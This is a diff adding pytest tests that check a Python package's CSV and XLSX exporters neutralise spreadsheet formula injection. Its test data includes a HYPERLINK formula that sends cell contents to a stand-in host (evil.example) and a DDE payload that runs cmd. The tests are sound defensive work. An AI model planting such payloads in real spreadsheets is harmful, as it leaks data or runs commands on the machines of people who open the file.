@@ -380,3 +380,84 @@ def test_report_refuses_a_figure_without_its_image(tmp_path):
     nbformat.write(nb, str(path))
     with pytest.raises(CxauditError, match="02_cx_metrics.ipynb: 1 figure"):
         merge_notebooks([path])
+
+
+# --- item 3: formula injection in exported cells --------------------------------------------------
+
+INJECTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]
+
+
+def _frame():
+    import pandas as pd
+
+    return pd.DataFrame({
+        "label": [*INJECTED, "Kurier", "-12.5"],
+        "value": [-3.5, -1.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, -7.25, -12.5],
+        "n": list(range(-5, 5)),
+    })
+
+
+def test_csv_cells_cannot_start_a_formula_and_numbers_stay_numbers(tmp_path):
+    import csv
+
+    import pandas as pd
+
+    from cxaudit.export import write_csv
+
+    path = write_csv(_frame(), tmp_path / "t.csv")
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    labels = [r[0] for r in rows[1:]]
+    for raw, cell in zip(INJECTED, labels, strict=False):
+        assert cell == "'" + raw, (raw, cell)
+    assert labels[-2:] == ["Kurier", "-12.5"]  # text and a plain negative number untouched
+    back = pd.read_csv(path)
+    assert back["value"].tolist() == _frame()["value"].tolist() and back["n"].tolist() == list(range(-5, 5))
+
+
+def test_xlsx_cells_are_text_not_formulas(tmp_path):
+    import openpyxl
+
+    from cxaudit.export import write_xlsx
+
+    path = write_xlsx(tmp_path / "t.xlsx", {"Touchpoints: =bad/[1]": _frame(), "=x": _frame().head(1)})
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["Touchpoints_ =bad__1_", "=x"]
+    ws = wb.worksheets[0]
+    for row in ws.iter_rows(min_row=2):
+        assert row[0].data_type == "s", row[0].value
+        assert not str(row[0].value).startswith(("=", "+", "@")), row[0].value
+        assert isinstance(row[1].value, float | int) and isinstance(row[2].value, int)
+    assert ws["A2"].value == "'" + INJECTED[0] and ws["B2"].value == -3.5 and ws["C2"].value == -5
+    assert ws["A11"].value == "-12.5"
+    # the argument order another module uses works too
+    write_xlsx({"s": _frame()}, tmp_path / "u.xlsx")
+    assert openpyxl.load_workbook(tmp_path / "u.xlsx")["s"]["A2"].value == "'" + INJECTED[0]
+
+
+def test_index_and_headers_are_escaped_too(tmp_path):
+    import pandas as pd
+
+    from cxaudit.export import write_csv
+
+    df = pd.DataFrame({"=cmd()": [1]}, index=pd.Index(["=HYPERLINK(1)"], name="touchpoint"))
+    text = write_csv(df, tmp_path / "i.csv", index=True).read_text(encoding="utf-8")
+    assert text.splitlines() == ["touchpoint,'=cmd()", "'=HYPERLINK(1),1"]
+
+
+def test_every_csv_and_xlsx_writer_goes_through_export():
+    """No module or notebook of the package writes CSV/XLSX with pandas directly (demo.py writes the
+    synthetic *input* files, which are data, not exported artifacts)."""
+    import re
+
+    pkg = Path(__file__).resolve().parents[1] / "cxaudit"
+    offenders = []
+    for f in [*pkg.rglob("*.py"), *pkg.rglob("*.ipynb")]:
+        # tables_export.py: its ExcelWriter branch runs only when cxaudit.export cannot be imported
+        if f.name in ("export.py", "demo.py", "tables_export.py"):
+            continue
+        for i, line in enumerate(f.read_text(encoding="utf-8").splitlines(), 1):
+            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(", line):
+                offenders.append(f"{f.relative_to(pkg)}:{i}")
+    assert offenders == [], offenders
